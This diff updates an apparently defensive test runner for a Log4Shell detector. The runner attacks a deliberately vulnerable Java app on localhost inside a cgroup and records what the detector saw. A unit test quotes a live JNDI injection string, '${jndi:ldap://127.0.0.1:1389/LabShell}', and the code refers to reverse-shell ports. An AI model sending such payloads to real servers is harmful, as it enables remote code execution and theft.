@@ -1,6 +1,8 @@
-//! One scenario in one mode: a fresh cgroup, the detector on it (unless mode `none`), the
-//! vulnerable app attacked (or the benign program run) inside it, and what the servers, the
-//! file system and the detector saw, as an [`Observation`] for report.rs to judge.
+//! One scenario in one column: a fresh cgroup, the detector on it (unless mode `none`), the
+//! vulnerable app (started after the detector, or before it) attacked inside it, or the
+//! benign program run there, and what the servers, the file system and the detector saw (and
+//! what `detector replay` made of its recording), as an [`Observation`] for report.rs to
+//! judge.
 
 use std::{
     fs,
@@ -16,14 +18,15 @@ use std::{
 use anyhow::{bail, Context as _, Result};
 use serde_json::Value;
 
-use testkit::{command_line, die_with_parent, Cgroup, Detector, Launch};
+use testkit::{command_line, die_with_parent, servers::UdpServer, Cgroup, Detector, Launch};
 
 use super::{
     scenarios::{
-        column_name, Attack, Benign, Column, Kind, Lookup, Mode, Payload, Scenario, CANARY,
-        CLASS_PORT, LDAP_PORT, PENDING_RULES, REVSHELL_PORT, SECRET, WEB_PORT,
+        Attack, Benign, Column, Kind, Lookup, Mode, Payload, Scenario, Start, Variant, CANARY,
+        CLASS_PORT, LDAP_PORT, ORDINARY_NAMES, OWN_RESOLVER, PADDING, PENDING_RULES, REVSHELL_PORT,
+        SECRET, WEB_PORT,
     },
-    servers::{append_to, Classes, EventLog},
+    servers::{append_to, AppImage, Classes, EventLog},
 };
 
 /// The JVM flags of an unpatched JVM of late 2021, on JDK 17.0.15 (tests/lab/README.md,
@@ -52,8 +55,10 @@ const APP_START_TIMEOUT: Duration = Duration::from_secs(30);
 const REQUEST_TIMEOUT: Duration = Duration::from_secs(20);
 /// How long an attack may take, after the app answered, to show its effect (canary, secret).
 const PROOF_TIMEOUT: Duration = Duration::from_secs(10);
-/// In enforce mode: how long to keep watching for an effect that must not come.
-const ENFORCE_GRACE: Duration = Duration::from_secs(2);
+/// In enforce mode: how long to keep watching for an effect that must not come. The app
+/// answers once its lookups are over, so the payload (which runs inside the lookup) would
+/// already have run; the grace is for what a payload starts in the background.
+const ENFORCE_GRACE: Duration = Duration::from_secs(1);
 /// How long every expected alert may take to arrive.
 const ALERT_TIMEOUT: Duration = Duration::from_secs(10);
 /// Once the rules the detector already has arrived, how much longer to wait for the pending
@@ -72,6 +77,10 @@ pub struct Lab<'a> {
     /// tests/lab
     pub sources: PathBuf,
     pub classes: &'a Classes,
+    /// The app's jpackage image, when a scenario needs it.
+    pub app_image: Option<&'a AppImage>,
+    /// The own-resolver scenario's name server.
+    pub own_resolver: &'a UdpServer,
     pub events: &'a EventLog,
     pub java: PathBuf,
     pub javac: PathBuf,
@@ -90,6 +99,8 @@ pub struct Observation {
     pub benign: Option<BenignFacts>,
     /// Every alert of the run; `None` in mode `none`.
     pub alerts: Option<Vec<Value>>,
+    /// What `detector replay` printed for the run's recording (the replayed variant).
+    pub replayed: Option<Vec<Value>>,
     /// The detector's stop went wrong, or it lost events.
     pub detector_problem: Option<String>,
     pub took: Duration,
@@ -146,18 +157,58 @@ pub struct BenignFacts {
     pub output: String,
 }
 
-/// Runs `scenario` in `mode`. Never fails: whatever goes wrong is in the observation.
-pub fn run(lab: &Lab<'_>, scenario: &Scenario, mode: Column) -> Observation {
-    let started = Instant::now();
-    let dir = lab
-        .dir
+/// A victim that starts before the detector, started ahead of its run: its cgroup, and the
+/// app listening in it. The runner starts the next run's while the current one runs, so the
+/// JVM's start-up costs no time of its own.
+#[derive(Debug)]
+pub struct Early {
+    cgroup: Cgroup,
+    app: Starting,
+}
+
+/// Starts the victim of `scenario` in `column` now, if it is one that predates its detector.
+pub fn start_early(lab: &Lab<'_>, scenario: &Scenario, column: Column) -> Option<Result<Early>> {
+    let Kind::Attack(attack) = &scenario.kind else {
+        return None;
+    };
+    if column.start != Start::Before {
+        return None;
+    }
+    let dir = run_dir(lab, scenario, column);
+    let start = || {
+        fs::create_dir_all(&dir).with_context(|| format!("creating {}", dir.display()))?;
+        let cgroup = Cgroup::create(&cgroup_name(scenario, column))?;
+        let app = spawn_app(lab, &dir, &cgroup, attack)?;
+        Ok(Early { cgroup, app })
+    };
+    Some(start())
+}
+
+fn run_dir(lab: &Lab<'_>, scenario: &Scenario, column: Column) -> PathBuf {
+    lab.dir
         .join("runs")
-        .join(format!("{}-{}", column_name(mode), scenario.name));
+        .join(format!("{}-{}", column.slug(), scenario.name))
+}
+
+fn cgroup_name(scenario: &Scenario, column: Column) -> String {
+    format!("lab-{}-{}", column.slug(), scenario.name)
+}
+
+/// Runs `scenario` in `column`, with its victim started ahead if `early` has it. Never
+/// fails: whatever goes wrong is in the observation.
+pub fn run(
+    lab: &Lab<'_>,
+    scenario: &Scenario,
+    column: Column,
+    early: Option<Result<Early>>,
+) -> Observation {
+    let started = Instant::now();
+    let dir = run_dir(lab, scenario, column);
     let mut obs = Observation {
         dir: dir.clone(),
         ..Observation::default()
     };
-    if let Err(err) = run_in(lab, scenario, mode, &dir, &mut obs) {
+    if let Err(err) = run_in(lab, scenario, column, early, &dir, &mut obs) {
         obs.errors.push(format!("{err:#}"));
     }
     obs.took = started.elapsed();
@@ -167,39 +218,64 @@ pub fn run(lab: &Lab<'_>, scenario: &Scenario, mode: Column) -> Observation {
 fn run_in(
     lab: &Lab<'_>,
     scenario: &Scenario,
-    mode: Column,
+    column: Column,
+    early: Option<Result<Early>>,
     dir: &Path,
     obs: &mut Observation,
 ) -> Result<()> {
-    fs::create_dir_all(dir).with_context(|| format!("creating {}", dir.display()))?;
-    let cgroup = Cgroup::create(&format!("lab-{}-{}", column_name(mode), scenario.name))?;
-    let detector = match (mode, &lab.detector) {
+    let attack = match &scenario.kind {
+        Kind::Attack(attack) => Some(attack),
+        Kind::Benign(_) => None,
+    };
+    // A victim started before the detector: the detector finds it in /proc.
+    let (cgroup, early_app) = match early.or_else(|| start_early(lab, scenario, column)) {
+        Some(early) => {
+            let Early { cgroup, app } = early?;
+            (cgroup, Some(app.listening()?))
+        }
+        None => {
+            fs::create_dir_all(dir).with_context(|| format!("creating {}", dir.display()))?;
+            (Cgroup::create(&cgroup_name(scenario, column))?, None)
+        }
+    };
+    let mut children = Vec::new();
+    let recording = attack
+        .filter(|a| a.variant == Variant::Replayed)
+        .map(|_| dir.join("recording.jsonl"));
+    let detector = match (column.mode, &lab.detector) {
         (None, _) => None,
-        (Some(mode), Some(bin)) => Some(
-            Launch::new(bin, mode)
+        (Some(mode), Some(bin)) => {
+            let mut launch = Launch::new(bin, mode)
                 .config(&lab.policy)
                 .cgroup(cgroup.path())
                 .log_to(dir)
-                .die_with_parent()
-                .start()?,
-        ),
+                .die_with_parent();
+            if let Some(file) = &recording {
+                launch = launch.args([std::ffi::OsStr::new("--record"), file.as_os_str()]);
+            }
+            Some(launch.start()?)
+        }
         (Some(mode), None) => bail!("mode {mode} needs the detector binary"),
     };
     let run = Run {
         lab,
-        mode,
+        mode: column.mode,
         dir,
         cgroup: &cgroup,
         detector: detector.as_ref(),
         mark: lab.events.mark(),
     };
 
-    let mut children = Vec::new();
-    let result = match &scenario.kind {
-        Kind::Attack(attack) => {
-            attack_app(&run, attack, &mut children).map(|facts| obs.attack = Some(facts))
+    let result = match (&scenario.kind, early_app) {
+        (Kind::Attack(attack), early) => {
+            let app = match early {
+                Some(app) => Ok(app),
+                None => start_app(lab, dir, &cgroup, attack),
+            };
+            app.and_then(|app| attack_app(&run, attack, app, &mut children))
+                .map(|facts| obs.attack = Some(facts))
         }
-        Kind::Benign(benign) => run_benign(&run, *benign).map(|facts| {
+        (Kind::Benign(benign), _) => run_benign(&run, *benign).map(|facts| {
             if detector.is_some() {
                 // Whatever a benign program raises arrives within a moment of it.
                 thread::sleep(SETTLE + SETTLE / 2);
@@ -220,6 +296,12 @@ fn run_in(
             }
             Err(err) => obs.detector_problem = Some(format!("{err:#}")),
         }
+        if let (Some(file), Some(bin)) = (&recording, &lab.detector) {
+            match replay(bin, file, &lab.policy, dir) {
+                Ok(alerts) => obs.replayed = Some(alerts),
+                Err(err) => obs.errors.push(format!("{err:#}")),
+            }
+        }
     }
     drop(cgroup);
     for mut child in children {
@@ -229,11 +311,43 @@ fn run_in(
     result
 }
 
+/// `detector replay FILE --config POLICY`: the alerts it prints (also in `replay.log`).
+fn replay(bin: &Path, recording: &Path, policy: &Path, dir: &Path) -> Result<Vec<Value>> {
+    let mut cmd = Command::new(bin);
+    cmd.arg("replay").arg(recording).arg("--config").arg(policy);
+    let line = command_line(&cmd);
+    let output = cmd
+        .stdin(Stdio::null())
+        .output()
+        .with_context(|| format!("starting `{line}`"))?;
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    let log = dir.join("replay.log");
+    fs::write(
+        &log,
+        format!(
+            "$ {line}\n{stdout}{}",
+            String::from_utf8_lossy(&output.stderr)
+        ),
+    )
+    .with_context(|| format!("writing {}", log.display()))?;
+    if !output.status.success() {
+        bail!("`{line}` failed ({}); see {}", output.status, log.display());
+    }
+    stdout
+        .lines()
+        .filter(|l| !l.trim().is_empty())
+        .map(|l| {
+            serde_json::from_str(l)
+                .with_context(|| format!("replay printed a line that is no alert: {l:?}"))
+        })
+        .collect()
+}
+
 /// One scenario run in progress.
 #[derive(Debug)]
 struct Run<'a> {
     lab: &'a Lab<'a>,
-    mode: Column,
+    mode: Option<Mode>,
     /// Its directory: logs, and the vulnerable app's working directory.
     dir: &'a Path,
     cgroup: &'a Cgroup,
@@ -244,7 +358,21 @@ struct Run<'a> {
 
 // === attacks ===
 
-fn attack_app(run: &Run<'_>, attack: &Attack, children: &mut Vec<Child>) -> Result<AttackFacts> {
+/// The vulnerable app, listening.
+#[derive(Debug)]
+struct App {
+    child: Child,
+    port: u16,
+    /// Its stdout lines as they come.
+    lines: mpsc::Receiver<String>,
+}
+
+fn attack_app(
+    run: &Run<'_>,
+    attack: &Attack,
+    app: App,
+    children: &mut Vec<Child>,
+) -> Result<AttackFacts> {
     let Run {
         lab,
         mode,
@@ -252,7 +380,11 @@ fn attack_app(run: &Run<'_>, attack: &Attack, children: &mut Vec<Child>) -> Resu
         mark,
         ..
     } = *run;
-    let (child, port, notes) = start_app(lab, dir, run.cgroup)?;
+    let App {
+        child,
+        port,
+        lines: notes,
+    } = app;
     children.push(child);
 
     send_attack(port, attack)?;
@@ -308,11 +440,7 @@ fn attack_app(run: &Run<'_>, attack: &Attack, children: &mut Vec<Child>) -> Resu
         thread::sleep(SETTLE);
     }
     observe(&mut facts);
-    facts.lookups = notes
-        .try_iter()
-        .filter(|line| line.starts_with("NOTE jndi-"))
-        .map(|line| line.trim_start_matches("NOTE ").to_owned())
-        .collect();
+    facts.lookups = jndi_errors(&notes.try_iter().collect::<Vec<_>>());
     Ok(facts)
 }
 
@@ -341,22 +469,63 @@ fn wait_for_rules(detector: &Detector, expected: &[&'static str]) {
     }
 }
 
+/// What log4j says of each failed JNDI lookup, from its status lines
+/// (`… WARN Error looking up JNDI resource [URL]. EXCEPTION`): `jndi-error URL: EXCEPTION`.
+/// An RMI exception names its cause on the next line (`…; nested exception is:`).
+fn jndi_errors(lines: &[String]) -> Vec<String> {
+    let mut errors = Vec::new();
+    for (i, line) in lines.iter().enumerate() {
+        let Some((_, rest)) = line.split_once("Error looking up JNDI resource [") else {
+            continue;
+        };
+        let (url, exception) = rest.split_once("]. ").unwrap_or((rest, ""));
+        let mut error = format!("jndi-error {url}: {}", exception.trim_end());
+        if error.ends_with("nested exception is:") {
+            if let Some(cause) = lines.get(i + 1) {
+                error = format!("{error} {}", cause.trim());
+            }
+        }
+        errors.push(error);
+    }
+    errors
+}
+
 pub fn rule_of(alert: &Value) -> Option<&str> {
     alert.get("rule").and_then(Value::as_str)
 }
 
-/// Starts `VulnerableApp` in the cgroup and waits until it listens; returns it, its port and
-/// its stdout lines as they come (also written to `app.log`).
-fn start_app(
-    lab: &Lab<'_>,
-    dir: &Path,
-    cgroup: &Cgroup,
-) -> Result<(Child, u16, mpsc::Receiver<String>)> {
-    let mut cmd = Command::new(&lab.java);
-    cmd.args(VULNERABLE_JVM_FLAGS)
-        .arg("-cp")
-        .arg(&lab.classes.app)
-        .args(["VulnerableApp", "0", "--lifetime", APP_LIFETIME_SECS]);
+/// Starts `VulnerableApp` in the cgroup (with `java`, or through its jpackage launcher) and
+/// waits until it listens; its stdout also goes to `app.log`.
+fn start_app(lab: &Lab<'_>, dir: &Path, cgroup: &Cgroup, attack: &Attack) -> Result<App> {
+    spawn_app(lab, dir, cgroup, attack)?.listening()
+}
+
+/// The vulnerable app, started, perhaps not listening yet.
+#[derive(Debug)]
+struct Starting {
+    child: Child,
+    lines: mpsc::Receiver<String>,
+    log_path: PathBuf,
+}
+
+/// Starts `VulnerableApp` in the cgroup (with `java`, or through its jpackage launcher);
+/// its stdout also goes to `app.log`.
+fn spawn_app(lab: &Lab<'_>, dir: &Path, cgroup: &Cgroup, attack: &Attack) -> Result<Starting> {
+    let mut cmd = if attack.variant == Variant::Jpackage {
+        let image = lab
+            .app_image
+            .context("the jpackage app image was not built")?;
+        // The launcher passes the image's JVM options (the same flags) itself.
+        Command::new(&image.launcher)
+    } else {
+        let mut cmd = Command::new(&lab.java);
+        cmd.args(VULNERABLE_JVM_FLAGS)
+            .arg("-cp")
+            .arg(&lab.classes.app_classpath)
+            .arg("VulnerableApp");
+        cmd
+    };
+    cmd.args(["0", "--lifetime", APP_LIFETIME_SECS]);
     service_env(&mut cmd, dir);
     cmd.env("SECRET", SECRET);
     let log_path = dir.join("app.log");
@@ -377,24 +546,40 @@ fn start_app(
             let _ = tx.send(line);
         }
     });
-    let deadline = Instant::now() + APP_START_TIMEOUT;
-    loop {
-        let left = deadline.saturating_duration_since(Instant::now());
-        match rx.recv_timeout(left) {
-            Ok(line) => {
-                if let Some(addr) = line.strip_prefix("NOTE listening 127.0.0.1:") {
-                    let port = addr.trim().parse().context("the app's port")?;
-                    return Ok((child, port, rx));
+    Ok(Starting {
+        child,
+        lines: rx,
+        log_path,
+    })
+}
+
+impl Starting {
+    /// Waits until the app listens.
+    fn listening(self) -> Result<App> {
+        let Starting {
+            mut child,
+            lines,
+            log_path,
+        } = self;
+        let deadline = Instant::now() + APP_START_TIMEOUT;
+        loop {
+            let left = deadline.saturating_duration_since(Instant::now());
+            match lines.recv_timeout(left) {
+                Ok(line) => {
+                    if let Some(addr) = line.strip_prefix("NOTE listening 127.0.0.1:") {
+                        let port = addr.trim().parse().context("the app's port")?;
+                        return Ok(App { child, port, lines });
+                    }
                 }
-            }
-            Err(_) => {
-                let _ = child.kill();
-                let _ = child.wait();
-                bail!(
-                    "the vulnerable app did not listen within {}s; see {}",
-                    APP_START_TIMEOUT.as_secs(),
-                    log_path.display()
-                );
+                Err(_) => {
+                    let _ = child.kill();
+                    let _ = child.wait();
+                    bail!(
+                        "the vulnerable app did not listen within {}s; see {}",
+                        APP_START_TIMEOUT.as_secs(),
+                        log_path.display()
+                    );
+                }
             }
         }
     }
@@ -406,6 +591,9 @@ fn send_attack(port: u16, attack: &Attack) -> Result<()> {
         "GET {} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nAccept: */*\r\n",
         attack.target
     );
+    if attack.variant == Variant::Padded {
+        request.push_str(&padding(PADDING));
+    }
     match attack.header {
         Some((name, value)) => request.push_str(&format!("{name}: {value}\r\n")),
         None => request.push_str("User-Agent: Mozilla/5.0 (lab)\r\n"),
@@ -430,6 +618,20 @@ fn send_attack(port: u16, attack: &Attack) -> Result<()> {
     Ok(())
 }
 
+/// About `bytes` of ordinary headers, as big cookies and tracing headers make them: 1 KiB
+/// `X-Pad-N` lines.
+fn padding(bytes: usize) -> String {
+    let mut headers = String::new();
+    let mut n = 0;
+    while headers.len() < bytes {
+        let name = format!("X-Pad-{n:02}: ");
+        let value = "a".repeat(1024 - name.len() - 2);
+        headers.push_str(&format!("{name}{value}\r\n"));
+        n += 1;
+    }
+    headers
+}
+
 /// A clean service environment: nothing of the runner's (no pyenv shims, no CI variables);
 /// the program dies with the runner.
 fn service_env(cmd: &mut Command, dir: &Path) {
@@ -443,6 +645,22 @@ fn service_env(cmd: &mut Command, dir: &Path) {
 }
 
 // === benign programs ===
+
+/// `java` run in a mount namespace of its own whose /etc/resolv.conf names [`OWN_RESOLVER`]
+/// (a container's or a pod's); `unshare` and `sh` exec in place, so the JVM is the process
+/// started.
+fn own_namespace(dir: &Path, java: &Command) -> Result<Command> {
+    let resolv = dir.join("resolv.conf");
+    fs::write(&resolv, format!("nameserver {OWN_RESOLVER}\n"))
+        .with_context(|| format!("writing {}", resolv.display()))?;
+    let mut cmd = Command::new("unshare");
+    cmd.args(["--mount", "--propagation", "private", "sh", "-c"])
+        .arg("mount --bind \"$0\" /etc/resolv.conf && exec \"$@\"")
+        .arg(&resolv)
+        .arg(java.get_program())
+        .args(java.get_args());
+    Ok(cmd)
+}
 
 fn run_benign(run: &Run<'_>, benign: Benign) -> Result<BenignFacts> {
     let Run { lab, dir, mark, .. } = *run;
@@ -470,6 +688,10 @@ fn run_benign(run: &Run<'_>, benign: Benign) -> Result<BenignFacts> {
             (cmd, "Greeting.class was written")
         }
         Benign::Helper => (java("LabHelperRunner"), "the helper wrote helper-out"),
+        Benign::OwnResolver => (
+            own_namespace(dir, java("LabResolverClient").args(ORDINARY_NAMES))?,
+            "its own resolver got its queries",
+        ),
         Benign::PythonLdapShell => {
             let mut cmd = Command::new(&lab.python);
             cmd.arg(lab.sources.join("python/ldap_and_shell.py"))
@@ -525,6 +747,10 @@ fn run_benign(run: &Run<'_>, benign: Benign) -> Result<BenignFacts> {
             Benign::Helper => fs::read_to_string(dir.join("helper-out"))
                 .is_ok_and(|text| text.trim() == "helper-ok"),
             Benign::PythonLdapShell => entry_searches() > 0 && output.contains("sh ok"),
+            Benign::OwnResolver => {
+                let asked = lab.own_resolver.dns_names();
+                ORDINARY_NAMES.iter().all(|n| asked.iter().any(|a| a == n))
+            }
         };
     let tail: Vec<&str> = output.lines().rev().take(6).collect();
     Ok(BenignFacts {
@@ -533,4 +759,34 @@ fn run_benign(run: &Run<'_>, benign: Benign) -> Result<BenignFacts> {
         effect,
         output: tail.into_iter().rev().collect::<Vec<_>>().join(" | "),
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn log4j_status_lines_say_why_a_lookup_failed() {
+        let lines: Vec<String> = [
+            "LOG User-Agent: ${jndi:ldap://127.0.0.1:1389/LabShell}",
+            "2026-12-06 02:11:13,307 HTTP-Dispatcher WARN Error looking up JNDI resource \
+             [ldap://127.0.0.1:1389/LabShell]. javax.naming.CommunicationException: \
+             127.0.0.1:1389 [Root exception is java.net.SocketException: Operation not permitted]",
+            "\tat java.naming/com.sun.jndi.ldap.Connection.<init>(Connection.java:251)",
+            "2026-12-06 02:11:13,307 HTTP-Dispatcher WARN Error looking up JNDI resource \
+             [rmi://127.0.0.1:1099/LabShell]. javax.naming.CommunicationException [Root \
+             exception is java.rmi.ConnectIOException: Exception creating connection to: \
+             127.0.0.1; nested exception is: ",
+            "\tjava.net.SocketException: Operation not permitted]",
+        ]
+        .map(str::to_owned)
+        .to_vec();
+        let errors = jndi_errors(&lines);
+        assert_eq!(errors.len(), 2, "{errors:?}");
+        assert!(errors[0].starts_with("jndi-error ldap://127.0.0.1:1389/LabShell: javax"));
+        assert!(
+            errors.iter().all(|e| e.contains("Operation not permitted")),
+            "{errors:?}"
+        );
+    }
 }
